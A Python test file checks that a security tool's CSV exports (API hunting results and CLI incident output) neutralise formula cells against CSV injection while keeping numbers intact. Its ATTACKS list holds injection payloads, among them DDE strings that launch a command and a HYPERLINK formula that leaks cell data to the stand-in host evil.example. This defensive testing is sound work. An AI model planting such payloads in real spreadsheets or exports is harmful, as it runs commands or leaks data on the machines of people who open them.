"""CSV output a spreadsheet opens: cells it would run as formulas are neutralised (OWASP "CSV
injection"), real numbers stay numbers. Covers the HTTP API's hunting CSV and the CLI's
``--format csv`` (incidents and hunting)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from shared.cli.incidents import write_incidents, write_rows
from shared.defender.model import Incident
from shared.usecases.incidents import csv_cell, hunting_csv

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "-",
    "+",
    "=",
    "@",
]


def _parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_cells_are_prefixed_with_a_quote(value: str) -> None:
    cell = csv_cell(value)
    assert cell == "'" + value
    # through the writer and back: the cell a spreadsheet reads starts with the quote
    rows = _parsed(hunting_csv(["c"], [{"c": value}]))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, "-5"),
        (-1.5, "-1.5"),
        (3, "3"),
        (0.25, "0.25"),
        ("-5", "-5"),
        ("+42", "+42"),
        ("-1.25e-3", "-1.25e-3"),
        ("-0.5", "-0.5"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (True, "True"),
    ],
)
def test_numbers_and_harmless_text_are_kept(value: object, expected: str) -> None:
    assert csv_cell(value) == expected


def test_a_number_with_a_formula_tail_is_not_a_number() -> None:
    for value in ("-1+1", "-1 =1", "+1e5+cmd|'/c calc'!A1", "-1,5", "- 1", "-1\n=2"):
        assert csv_cell(value).startswith("'"), value


def test_lists_and_objects_are_neutralised_too() -> None:
    assert csv_cell(["=1+1", "x"]).startswith("'")
    assert csv_cell({"k": "v"}) == '{"k": "v"}'


def test_hunting_csv_header_and_numbers() -> None:
    text = hunting_csv(
        ["=Name", "Count", "Cmd"],
        [{"=Name": "x", "Count": -3, "Cmd": "@calc"}],
    )
    rows = _parsed(text)
    assert rows == [["'=Name", "Count", "Cmd"], ["x", "-3", "'@calc"]]


def _incident(title: str, tags: tuple[str, ...]) -> Incident:
    now = datetime(2026, 12, 1, tzinfo=UTC)
    return Incident(
        "7", title, "active", "high", None, None, "+soc@x.com", now, now, None, tags, 0, "graph", {}
    )


def test_cli_incident_csv_neutralises_titles_tags_and_assignees() -> None:
    out = io.StringIO()
    write_incidents([_incident('=HYPERLINK("x")', ("-tag", "ok"))], "csv", out, raw=False)
    rows = _parsed(out.getvalue())
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == '\'=HYPERLINK("x")'
    assert cells["tags"] == "'-tag;ok"
    assert cells["assignedTo"] == "'+soc@x.com"
    assert cells["alerts"] == "0" and cells["id"] == "7"


def test_cli_hunting_csv_neutralises_cells() -> None:
    out = io.StringIO()
    write_rows(["a", "n"], [{"a": "@SUM(1)", "n": -1.5}], "csv", out)
    assert _parsed(out.getvalue())[1] == ["'@SUM(1)", "-1.5"]


def test_cli_table_output_is_not_changed() -> None:
    out = io.StringIO()
    write_rows(["a"], [{"a": "=1+1"}], "table", out)
    assert "=1+1" in out.getvalue() and "'=1+1" not in out.getvalue()


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole() -> None:
    """The API's CSV ends lines with CRLF (RFC 4180), so the writer quotes a cell holding a
    lone CR instead of letting it split the row."""
    text = hunting_csv(["a", "b"], [{"a": "x\ry", "b": "z"}, {"a": "1", "b": "2"}])
    assert _parsed(text) == [["a", "b"], ["x\ry", "z"], ["1", "2"]]
